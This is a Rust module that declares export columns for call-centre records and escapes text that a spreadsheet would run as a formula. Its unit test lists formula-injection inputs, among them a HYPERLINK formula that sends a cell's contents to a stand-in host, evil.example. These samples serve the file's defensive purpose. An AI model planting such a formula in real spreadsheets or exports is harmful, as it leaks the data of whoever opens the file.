//! What the tables hold, declared once for every format.

use std::sync::Arc;

use trunkside_record::{QualityHit, QualityMark, Timestamp};

use crate::store::{CallItem, TranscriptItem};

/// One column of rows of `T`.
pub(super) struct Column<T: 'static> {
    pub(super) name: &'static str,
    pub(super) value: Value<T>,
}

/// How its value is found.
pub(super) enum Value<T: 'static> {
    Text(fn(&T) -> Option<String>),
    Real(fn(&T) -> Option<f64>),
    Whole(fn(&T) -> Option<i64>),
    Time(fn(&T) -> Timestamp),
    MaybeTime(fn(&T) -> Option<Timestamp>),
    Flag(fn(&T) -> Option<bool>),
}

impl<T> Column<T> {
    const fn text(name: &'static str, value: fn(&T) -> Option<String>) -> Self {
        let value = Value::Text(value);
        Self { name, value }
    }

    const fn real(name: &'static str, value: fn(&T) -> Option<f64>) -> Self {
        let value = Value::Real(value);
        Self { name, value }
    }

    const fn whole(name: &'static str, value: fn(&T) -> Option<i64>) -> Self {
        let value = Value::Whole(value);
        Self { name, value }
    }

    const fn time(name: &'static str, value: fn(&T) -> Timestamp) -> Self {
        let value = Value::Time(value);
        Self { name, value }
    }

    const fn maybe_time(name: &'static str, value: fn(&T) -> Option<Timestamp>) -> Self {
        let value = Value::MaybeTime(value);
        Self { name, value }
    }

    const fn flag(name: &'static str, value: fn(&T) -> Option<bool>) -> Self {
        let value = Value::Flag(value);
        Self { name, value }
    }

    /// The value as CSV has it; nothing is empty.
    pub(super) fn text_of(&self, row: &T) -> String {
        match self.value {
            Value::Text(of) => of(row).map(no_formula).unwrap_or_default(),
            Value::Real(of) => of(row).map(|value| value.to_string()).unwrap_or_default(),
            Value::Whole(of) => of(row).map(|value| value.to_string()).unwrap_or_default(),
            Value::Time(of) => of(row).to_string(),
            Value::MaybeTime(of) => of(row).map(|time| time.to_string()).unwrap_or_default(),
            Value::Flag(of) => of(row).map(|flag| flag.to_string()).unwrap_or_default(),
        }
    }
}

/// What a spreadsheet takes for the beginning of a formula; some take the wide forms, too.
const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Text from a box as text in a spreadsheet, which would run a formula that it opens in a file; quotation
/// marks do not stop it, an apostrophe does.
fn no_formula(mut text: String) -> String {
    if text.starts_with(FORMULA) {
        text.insert(0, '\'');
    }
    text
}

/// A number that was read as a single, without the digits that a double would add.
fn single(value: f32) -> f64 {
    value
        .to_string()
        .parse()
        .unwrap_or_else(|_| f64::from(value))
}

/// As every table has it, so that one can be joined with another: not every store keeps more.
fn to_ms(time: Timestamp) -> Timestamp {
    Timestamp::from_millisecond(time.as_millisecond()).unwrap_or(time)
}

/// A turn with the call that it belongs to.
pub(super) struct TurnRow {
    call: Arc<TranscriptItem>,
    turn: usize,
}

impl TurnRow {
    pub(super) fn of(call: TranscriptItem) -> impl Iterator<Item = Self> {
        let turns = call.turns.len();
        let call = Arc::new(call);
        (0..turns).map(move |turn| Self {
            call: Arc::clone(&call),
            turn,
        })
    }
}

/// A phrase of a quality rule that was said in a call, or a rule of which none was.
pub(super) struct MarkRow {
    call: Arc<CallItem>,
    rule: usize,
    /// None where nothing was said.
    mark: Option<usize>,
}

impl MarkRow {
    pub(super) fn of(call: CallItem) -> impl Iterator<Item = Self> {
        let call = Arc::new(call);
        let rules = call.summary.quality.len();
        (0..rules).flat_map(move |rule| {
            let call = Arc::clone(&call);
            let marks = call.summary.quality[rule].hits.len();
            // One that was not said has a row, too.
            (0..marks.max(1)).map(move |mark| Self {
                call: Arc::clone(&call),
                rule,
                mark: (mark < marks).then_some(mark),
            })
        })
    }

    fn rule(&self) -> &QualityHit {
        &self.call.summary.quality[self.rule]
    }

    fn mark(&self) -> Option<&QualityMark> {
        self.rule().hits.get(self.mark?)
    }
}

/// The names of a call's quality rules that it kept, or of those that it did not; none where there are
/// none.
fn rules(call: &CallItem, kept: bool) -> Option<String> {
    let rules = call.summary.quality.iter().filter(|rule| rule.kept == kept);
    let names: Vec<&str> = rules.map(|rule| rule.rule.as_str()).collect();
    (!names.is_empty()).then(|| names.join(", "))
}

pub(super) const CALLS: &[Column<CallItem>] = &[
    Column::text("tenant", |row| Some(row.tenant.clone())),
    Column::text("branch", |row| Some(row.branch.clone())),
    Column::text("device", |row| Some(row.device.clone())),
    Column::text("call", |row| Some(row.summary.call.to_string())),
    Column::time("started_at", |row| to_ms(row.started_at)),
    Column::text("language", |row| {
        row.summary
            .language
            .map(|language| language.name().to_owned())
    }),
    Column::text("intent", |row| {
        row.summary
            .intent
            .as_ref()
            .map(|intent| intent.name.clone())
    }),
    Column::real("intent_score", |row| {
        row.summary
            .intent
            .as_ref()
            .map(|intent| single(intent.score))
    }),
    Column::text("emotion", |row| {
        row.summary
            .mood
            .as_ref()
            .map(|mood| mood.emotion.name().to_owned())
    }),
    Column::real("emotion_score", |row| {
        row.summary
            .mood
            .as_ref()
            .map(|mood| single(mood.emotion_score))
    }),
    Column::real("sentiment", |row| {
        row.summary.mood.as_ref().map(|mood| single(mood.sentiment))
    }),
    Column::text("outcome", |row| Some(row.summary.outcome.name().to_owned())),
    Column::text("ended_by", |row| {
        Some(row.summary.ended_by.name().to_owned())
    }),
    Column::text("agent", |row| {
        row.summary.agent.as_ref().map(ToString::to_string)
    }),
    Column::real("answered_s", |row| row.summary.times.answered_s),
    Column::real("first_words_s", |row| row.summary.times.first_words_s),
    Column::real("decided_s", |row| row.summary.times.decided_s),
    Column::real("bridged_s", |row| row.summary.times.bridged_s),
    Column::real("ended_s", |row| row.summary.times.ended_s),
    Column::whole("caller_packets", |row| {
        count(row.summary.voice.caller.packets)
    }),
    Column::whole("caller_lost", |row| count(row.summary.voice.caller.lost)),
    Column::real("caller_jitter_ms", |row| {
        Some(single(row.summary.voice.caller.jitter_ms))
    }),
    Column::whole("agent_packets", |row| {
        row.summary
            .voice
            .agent
            .and_then(|agent| count(agent.packets))
    }),
    Column::whole("agent_lost", |row| {
        row.summary.voice.agent.and_then(|agent| count(agent.lost))
    }),
    Column::real("agent_jitter_ms", |row| {
        row.summary.voice.agent.map(|agent| single(agent.jitter_ms))
    }),
    Column::text("overflowed_to", |row| {
        row.summary.overflow().map(|(to, _)| to.to_string())
    }),
    Column::text("overflow_kind", |row| {
        row.summary
            .overflow()
            .map(|(_, kind)| kind.name().to_owned())
    }),
    Column::maybe_time("said_started_at", |row| row.said_started_at.map(to_ms)),
    Column::flag("clock_trusted", |row| row.clock_trusted),
    Column::text("quality_kept", |row| rules(row, true)),
    Column::text("quality_broken", |row| rules(row, false)),
];

pub(super) const QUALITY: &[Column<MarkRow>] = &[
    Column::text("tenant", |row| Some(row.call.tenant.clone())),
    Column::text("branch", |row| Some(row.call.branch.clone())),
    Column::text("device", |row| Some(row.call.device.clone())),
    Column::text("call", |row| Some(row.call.summary.call.to_string())),
    Column::time("started_at", |row| to_ms(row.call.started_at)),
    Column::text("rule", |row| Some(row.rule().rule.clone())),
    Column::flag("kept", |row| Some(row.rule().kept)),
    Column::real("at_s", |row| Some(row.mark()?.at_s)),
    Column::text("text", |row| Some(row.mark()?.text.to_string())),
    Column::flag("clock_trusted", |row| row.call.clock_trusted),
];

pub(super) const TRANSCRIPTS: &[Column<TurnRow>] = &[
    Column::text("tenant", |row| Some(row.call.tenant.clone())),
    Column::text("branch", |row| Some(row.call.branch.clone())),
    Column::text("device", |row| Some(row.call.device.clone())),
    Column::text("call", |row| Some(row.call.call.clone())),
    Column::time("started_at", |row| to_ms(row.call.started_at)),
    Column::whole("turn", |row| count(row.turn as u64 + 1)),
    Column::text("side", |row| {
        Some(row.call.turns[row.turn].side.name().to_owned())
    }),
    Column::real("start_s", |row| Some(row.call.turns[row.turn].start_s)),
    Column::real("end_s", |row| Some(row.call.turns[row.turn].end_s)),
    Column::text("text", |row| {
        Some(row.call.turns[row.turn].text.as_str().to_owned())
    }),
    Column::flag("clock_trusted", |row| row.call.clock_trusted),
];

fn count(value: u64) -> Option<i64> {
    i64::try_from(value).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_is_no_formula_for_a_spreadsheet() {
        let text = Column::text("text", |row: &&str| Some((*row).to_owned()));
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "+1",
            "-1+cmd",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "＝1",
        ] {
            assert_eq!(text.text_of(&formula), format!("'{formula}"));
        }
        for plain in ["", "a=b", "我要-退款", "'=1"] {
            assert_eq!(text.text_of(&plain), plain);
        }
        let real = Column::real("real", |_: &&str| Some(-0.5));
        assert_eq!(real.text_of(&""), "-0.5");
    }
}
